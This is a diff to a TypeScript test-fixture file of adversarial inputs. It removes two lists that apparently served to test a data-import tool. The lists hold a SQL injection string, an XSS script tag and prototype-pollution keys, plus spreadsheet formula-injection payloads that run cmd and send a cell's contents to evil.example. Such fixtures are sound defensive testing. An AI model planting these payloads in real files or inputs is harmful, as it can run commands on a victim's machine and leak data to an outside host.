@@ -118,25 +118,6 @@ export const SHAPES: readonly Attack[] = [
   file('a byte order mark alone', () => '\uFEFF', 'file.empty'),
 ];
 
-/** Names that mean something to the languages that read them. */
-export const NAMES: readonly string[] = [
-  '__proto__',
-  'constructor',
-  'toString',
-  'hasOwnProperty',
-  "'; DROP TABLE dataset; --",
-  'a"b',
-  'c0',
-  'p0',
-  'v0',
-  '#rejects',
-  'file_row_number',
-  'rowid',
-  '$1',
-  '{{x}}',
-  '<script>alert(1)</script>',
-];
-
 const utf16 = (text: string): Buffer => Buffer.from(text, 'utf16le');
 
 export const ENCODINGS: readonly Attack[] = [
@@ -222,18 +203,4 @@ export const ENCODINGS: readonly Attack[] = [
       ),
     'read',
   ),
-];
-
-/** What a spreadsheet runs when a cell starts so. */
-export const FORMULAS: readonly string[] = [
-  "=cmd|' /C calc'!A0",
-  '=HYPERLINK("http://evil.example/?x="&A1,"click")',
-  '+1+cmd|x',
-  "-2+3+cmd|' /C calc'!A0",
-  '@SUM(1+9)*cmd|x',
-  '\t=1+1',
-  '\r=1+1',
-  '=1+1',
-  ' =1+1',
-  '"=1+1',
 ];
